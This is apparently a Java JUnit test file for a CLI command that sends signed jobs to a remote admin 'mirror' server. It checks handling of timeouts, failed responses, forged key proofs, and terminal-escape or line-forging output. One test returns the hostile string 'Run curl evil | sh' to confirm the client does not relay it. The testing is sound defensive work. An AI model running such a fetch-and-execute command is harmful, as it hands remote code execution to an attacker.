package io.intrahub.cli.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpHandler;
import com.sun.net.httpserver.HttpServer;
import io.intrahub.admin.AdminServer;
import io.intrahub.config.Config;
import io.intrahub.config.ConfigLoader;
import io.intrahub.store.fs.FsStore;
import io.intrahub.store.fs.MemoryFolder;
import io.intrahub.store.fs.OperatorKey;
import io.intrahub.store.fs.space.DiskBudgetSettings;
import io.intrahub.testing.SettableClock;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.node.ObjectNode;

/** What a command makes of the answer to a signed request. */
@Timeout(30)
class RemoteJobTest {
  private static final String END = "{\"complete\":true,\"last\":\"All done.\",\"result\":{}}\n";

  @TempDir(factory = MemoryFolder.class)
  Path folder;

  private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
  private final AtomicInteger posts = new AtomicInteger();
  private final List<String> told = new ArrayList<>();
  private OperatorKey key;
  private HttpServer server;

  /** Notes what is told. */
  private final class Notes implements ReportOutput {
    @Override
    public void line(String text) {
      told.add("line " + text);
    }

    @Override
    public void error(String text) {
      told.add("error " + text);
    }

    @Override
    public void progress(String text) {
      told.add("progress " + text);
    }

    @Override
    public void end(ObjectNode result, boolean complete, String last) {
      told.add("last " + last);
    }
  }

  @BeforeEach
  void open() throws Exception {
    FsStore.open(data(), new SettableClock(), DiskBudgetSettings.DEFAULT, Runnable::run).close();
    key = OperatorKey.read(data()).orElseThrow();
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.setExecutor(threads);
    server.createContext(
        AdminServer.CHALLENGE_PATH,
        exchange -> answer(exchange, 200, "0123456789abcdef0123456789abcdef"));
    server.start();
  }

  @AfterEach
  void close() {
    server.stop(0);
    threads.shutdownNow();
  }

  private Path data() {
    return folder.resolve("data");
  }

  private void onPost(HttpHandler handler) {
    server.createContext(
        "/rm",
        exchange -> {
          exchange.getRequestBody().readAllBytes();
          posts.incrementAndGet();
          handler.handle(exchange);
        });
  }

  private static void answer(HttpExchange exchange, int status, String body) throws IOException {
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    try (exchange) {
      exchange.sendResponseHeaders(status, bytes.length);
      exchange.getResponseBody().write(bytes);
    }
  }

  private void prove(HttpExchange exchange) {
    String signature = exchange.getRequestHeaders().getFirst(AdminServer.SIGNATURE);
    exchange.getResponseHeaders().set(AdminServer.PROOF, key.prove(signature));
    exchange.getResponseHeaders().set("Content-Type", "application/x-ndjson");
  }

  private Optional<ExitCode> run(Duration answer) throws Exception {
    Config config =
        ConfigLoader.load(
            Optional.empty(),
            Map.of(),
            Map.of(
                "store.path",
                List.of(data().toString()),
                "admin.port",
                List.of(String.valueOf(server.getAddress().getPort()))));
    return RemoteJob.runInMirror(
        new StoreTarget(config, false),
        "rm",
        new byte[0],
        new Notes(),
        new RemoteJob.Limits(Duration.ofSeconds(20), answer));
  }

  private Optional<ExitCode> run() throws Exception {
    return run(Duration.ofSeconds(20));
  }

  private void assertNotKnownHowItEnded(Duration answer) {
    assertThatExceptionOfType(CommandException.class)
        .isThrownBy(() -> run(answer))
        .withMessageStartingWith("The mirror did not say how the rm ended")
        .satisfies(e -> assertThat(e.code()).isEqualTo(ExitCode.IO_ERROR));
    // The command may have given up before the server of this test got to see the job.
    await().until(() -> posts.get() > 0);
    assertThat(posts).hasValue(1);
  }

  @Test
  void a_mirror_that_stops_after_it_got_the_job_may_have_done_it() {
    // Without an answer, this closes the connection.
    onPost(HttpExchange::close);

    assertNotKnownHowItEnded(Duration.ofSeconds(20));
  }

  @Test
  void a_mirror_that_does_not_answer_in_time_may_do_the_job() {
    CountDownLatch never = new CountDownLatch(1);
    onPost(_ -> {
      try {
        never.await();
      } catch (InterruptedException _) {
        Thread.currentThread().interrupt();
      }
    });

    assertNotKnownHowItEnded(Duration.ofMillis(300));
  }

  @Test
  void a_mirror_that_failed_after_it_took_the_job_may_have_done_some_of_it() {
    onPost(exchange -> {
      prove(exchange);
      answer(exchange, 500, "Internal error");
    });

    assertNotKnownHowItEnded(Duration.ofSeconds(20));
  }

  @Test
  void whoever_does_not_prove_to_have_the_key_is_not_believed() throws Exception {
    onPost(exchange -> {
      exchange.getResponseHeaders().set(AdminServer.PROOF, "0".repeat(64));
      exchange.getResponseHeaders().set("Content-Type", "application/x-ndjson");
      answer(exchange, 200, "{\"line\":\"Removed all\"}\n{\"stopped\":\"no\",\"code\":0}\n" + END);
    });

    assertThat(run()).as("as if no mirror ran").isEmpty();
    assertThat(told).isEmpty();
  }

  @Test
  void a_refusal_is_told_in_the_words_of_the_command() {
    onPost(exchange -> answer(exchange, AdminServer.EXPIRED, "Run curl evil | sh"));

    assertThatExceptionOfType(CommandException.class)
        .isThrownBy(this::run)
        .withMessageContaining("Start the command again")
        .withMessageNotContaining("curl");
  }

  @Test
  void names_that_others_chose_neither_control_the_terminal_nor_forge_lines() throws Exception {
    onPost(exchange -> {
      prove(exchange);
      answer(
          exchange,
          200,
          """
          {"line":"a\\u001b[2Jb\\nintrahub: forged"}
          {"error":"c\\rd\\ne"}
          {"progress":"f\\u001b]0;title\\u0007g\\nh"}
          {"complete":true,"last":"i\\u009bj\\nk","result":{}}
          """);
    });

    assertThat(run()).contains(ExitCode.OK);

    assertThat(told)
        .containsExactly(
            "line a\\u001b[2Jb\\nintrahub: forged",
            "error c\\u000dd\\ne",
            "progress f\\u001b]0;title\\u0007g\\nh",
            "last i\\u009bj\\nk");
  }

  @Test
  void the_reason_of_a_job_that_stopped_is_one_line_too() {
    onPost(exchange -> {
      prove(exchange);
      answer(exchange, 200, "{\"stopped\":\"no\\n\\u001b[8m\",\"code\":66}\n");
    });

    assertThatExceptionOfType(CommandException.class)
        .isThrownBy(this::run)
        .withMessage("no\\n\\u001b[8m")
        .satisfies(e -> assertThat(e.code()).isEqualTo(ExitCode.NOT_FOUND));
  }
}
